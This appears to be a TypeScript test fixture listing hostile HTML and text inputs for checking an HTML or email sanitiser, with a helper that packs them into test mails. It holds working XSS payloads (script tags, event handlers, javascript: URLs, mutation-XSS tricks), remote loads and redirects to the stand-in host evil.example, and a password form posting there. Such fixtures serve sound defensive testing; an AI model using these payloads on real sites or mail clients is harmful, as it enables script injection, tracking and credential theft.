/**
 * HTML that tries to run something, to load something, or to get out of its frame. Each would set `window.hit`, ask the
 * host evil.example, or lead the page away.
 */
export const nastyHtml: readonly string[] = [
  '<script>window.top.hit=1</script>',
  '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>',
  '<scr<script>ipt>window.top.hit=1</script>',
  '<img src=x onerror="window.top.hit=1">',
  '<img src="https://evil.example/b.png" srcset="https://evil.example/c.png 2x" onload=window.top.hit=1>',
  '<img src="//evil.example/d.png"><img src="\\\\evil.example\\e.png"><img src="https:evil.example/f.png">',
  '<svg onload="window.top.hit=1"><script>window.top.hit=1</script><image href="https://evil.example/g.png"/></svg>',
  '<svg><style><img src=x onerror=window.top.hit=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.top.hit=1&gt;">',
  '<math href="javascript:window.top.hit=1">click</math>',
  '<iframe src="https://evil.example/h"></iframe><iframe srcdoc="<script>window.top.hit=1</script>"></iframe>',
  '<object data="https://evil.example/i"></object><embed src="https://evil.example/j"><applet code=x></applet>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/k"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/m">',
  '<style>@import "https://evil.example/n.css"; body{background:url(https://evil.example/o.png)}</style>',
  '<div style="background:url(https://evil.example/p.png);color:red">a</div>',
  '<div style="color:red} body{background:url(https://evil.example/q.png)">b</div>',
  '<div style="width:expression(window.top.hit=1);behavior:url(https://evil.example/r)">c</div>',
  '<div style="color:\\75rl(https://evil.example/s.png);font-family:&quot;}*{background:url(https://evil.example/t)}&quot;">d</div>',
  '<div style="position:fixed;inset:0;z-index:99;background:#fff">e</div>',
  '<form action="https://evil.example/u"><input name=password autofocus><button>Sign in</button></form>',
  '<a href="javascript:window.top.hit=1" id="js">click</a><a href="data:text/html,<script>top.hit=1</script>">x</a>',
  '<a href="&#x6A;avascript&colon;window.top.hit=1">click</a><a href=" java\tscript:top.hit=1">y</a>',
  '<a href="vbscript:msgbox(1)">z</a><a href="/admin/sign-out">relative</a>',
  '<img src="data:image/svg+xml,<svg onload=top.hit=1>"><img src="cid:nobody@nowhere">',
  '<video src="https://evil.example/v" autoplay onplay=top.hit=1></video><audio src="https://evil.example/w" autoplay></audio>',
  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">f</td></tr></table>',
  '<body onload="window.top.hit=1" background="https://evil.example/z.png">g</body>',
  '<details open ontoggle="window.top.hit=1"><summary>h</summary></details>',
  '<input type=image src="https://evil.example/aa.png" onerror=top.hit=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.top.hit=1>"></noscript>',
  '<template><img src=x onerror=top.hit=1></template><xmp><img src=x onerror=top.hit=1></xmp>',
  '<!--[if gte IE 4]><script>window.top.hit=1</script><![endif]--><![CDATA[<script>top.hit=1</script>]]>',
  '<p title="\u202e\u0000<script>">\u202eevil\u202c \u0000 \ufeff</p><p lang="&quot;&gt;&lt;script&gt;">i</p>',
  '<blockquote><img src="https://evil.example/bb.png"></blockquote></details></body></html><script>top.hit=1</script>',
  '<button formaction="javascript:top.hit=1">j</button><isindex action=javascript:top.hit=1>',
  '<a href="https://customer.example/offer" ping="https://evil.example/cc">an honest link</a>',
];

/** The same in few mails: what may swallow what follows has one of its own. */
export function nastyMails(): string[] {
  const swallows =
    /<(?:math|svg|style|noscript|template|iframe|object|video|!--|\/body)|<script(?!.*<\/script>)/i;
  const alone = nastyHtml.filter((html) => swallows.test(html));
  const together = nastyHtml.filter((html) => !swallows.test(html));
  return [...alone, together.join('\n')];
}

/** A name, a subject, a file name: wherever text is shown. */
export const nastyText = `"><img src=x onerror=top.hit=1><script>top.hit=1</script>\u202e{page.next}`;
